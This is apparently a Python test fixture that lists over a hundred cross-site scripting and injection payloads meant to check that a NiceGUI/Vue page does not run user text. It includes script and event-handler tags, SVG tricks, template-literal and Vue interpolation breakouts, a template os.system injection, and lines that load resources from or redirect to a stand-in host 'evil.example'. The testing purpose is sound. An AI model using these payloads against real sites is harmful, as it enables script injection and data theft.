"""More than a hundred texts that try to become a script, a request or a style. One that runs sets window.__hit.

Kinds: markup of every sort; breaking out of the scripts that a page of NiceGUI holds (JSON inside a template literal); Vue's
own interpolation; addresses; styles; and what Unicode and parsers make of odd characters.
"""

from __future__ import annotations

HIT = "window.__hit=1"
ELSEWHERE = "http://evil.example"

TAGS = (
    f"<script>{HIT}</script>",
    f"<SCRIPT>{HIT}</SCRIPT>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"</script><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"--><script>{HIT}</script>",
    f"<!--><script>{HIT}</script>",
    f"]]><script>{HIT}</script>",
    f"<script src={ELSEWHERE}/1.js></script>",
    f"<script type=module>{HIT}</script>",
    f"<script\x0c>{HIT}</script>",
    f"<script/x>{HIT}</script>",
    f'"><script>{HIT}</script>',
    f"'><script>{HIT}</script>",
    f"<noscript><p title='</noscript><script>{HIT}</script>'>",
    f"<template><script>{HIT}</script></template>",
    f"<xmp><script>{HIT}</script></xmp>",
    f"<plaintext><script>{HIT}</script>",
)
HANDLERS = (
    f"<img src=x onerror={HIT}>",
    f'<img src="x" onerror="{HIT}">',
    f"<img src=x onerror='{HIT}'//",
    f"<IMG SRC=x ONERROR={HIT}>",
    f"<img/src=x/onerror={HIT}>",
    f"<img src=x\nonerror\n=\n{HIT}>",
    f'"><img src=x onerror={HIT}>',
    f'" onerror="{HIT}" x="',
    f"' onerror='{HIT}' x='",
    f'" onmouseover="{HIT}',
    f'" autofocus onfocus="{HIT}" tabindex="1',
    f"<body onload={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<details open ontoggle={HIT}>",
    f"<video src=x onerror={HIT}>",
    f"<audio src=x onerror={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<marquee onstart={HIT}>",
    f"<object data=x onerror={HIT}>",
    f"<style onload={HIT}></style>",
    f"<link rel=stylesheet href=x onerror={HIT}>",
    f"<p onpointerenter={HIT} style=position:fixed;inset:0>",
    f"<div style=animation-name:x onanimationstart={HIT}>",
    f"<select autofocus onfocus={HIT}>",
    f"<dialog open onclose={HIT}><form method=dialog><button autofocus>",
)
DRAWINGS = (
    f"<svg onload={HIT}>",
    f"<svg/onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><script href=data:text/javascript,{HIT} />",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{HIT}'><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{HIT}</script></svg>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.__hit=1</script>'></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{HIT}>x",
)
LITERALS = (
    f"${{{HIT}}}",
    f"`+({HIT})+`",
    f"`;{HIT};//",
    f"`);{HIT};String.raw(`",
    f"`}});{HIT};(()=>{{`",
    f"\\`;{HIT};//",
    f"\\\\`;{HIT};//",
    f"\\${{{HIT}}}",
    f"\\\\${{{HIT}}}",
    f"${{`${{{HIT}}}`}}",
    f"\\u0060;{HIT};//",
    f"\\x60;{HIT};//",
    f"&#96;;{HIT};//",
    f"&grave;;{HIT};//",
    f'";{HIT};"',
    f"';{HIT};'",
    f'\\";{HIT};//',
    f'"}}]}};{HIT};//',
    f"\u2028{HIT}\u2029",
    f"\n{HIT}\n",
    f"*/{HIT}/*",
    f"<!--\n{HIT}\n-->",
)
INTERPOLATION = (
    f"{{{{constructor.constructor('{HIT}')()}}}}",
    f"{{{{_Vue.h.constructor`{HIT}`()}}}}",
    f"{{{{$emit.constructor`{HIT}`()}}}}",
    f"{{{{this.constructor.constructor('{HIT}')()}}}}",
    f"<div v-html=\"'<img src=x onerror={HIT}>'\">",
    f'<p v-on:click.once="{HIT}" :title="{HIT}">',
    f"<component is=script v-text=\"'{HIT}'\"></component>",
    f"[[constructor.constructor('{HIT}')()]]",
    f"{{%import os%}}{{{{os.system('{HIT}')}}}}",
    "{0.__class__.__mro__}{talk.trouble}%(x)s{{}}{",
)
ADDRESSES = (
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}//",
    f"java\tscript:{HIT}",
    f"<a href='javascript:{HIT}'>x</a>",
    f"<a href='data:text/html,<script>{HIT}</script>'>x</a>",
    f"[x](javascript:{HIT})",
    f"![x]({ELSEWHERE}/2.png)",
    f"<img src={ELSEWHERE}/3.png>",
    f"<iframe src=javascript:{HIT}></iframe>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/4'>",
    f"<base href={ELSEWHERE}/>",
    f"<form action={ELSEWHERE}/5><input type=submit autofocus>",
)
STYLES_AND_CHARACTERS = (
    f"<style>@import url({ELSEWHERE}/6.css);*{{background:url({ELSEWHERE}/7.png)}}</style>",
    f'" style="background:url({ELSEWHERE}/8.png)',
    f"<link rel=stylesheet href={ELSEWHERE}/9.css>",
    f"\u202e<script>{HIT}</script>\u202c",
    f"＜script＞{HIT}＜/script＞",
    f"<scr\u0000ipt>{HIT}</scr\u0000ipt>",
    f"<\u200bscript>{HIT}</script>",
    f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
    f"%3Cscript%3E{HIT}%3C/script%3E",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
)

PAYLOADS = (*TAGS, *HANDLERS, *DRAWINGS, *LITERALS, *INTERPOLATION, *ADDRESSES, *STYLES_AND_CHARACTERS)
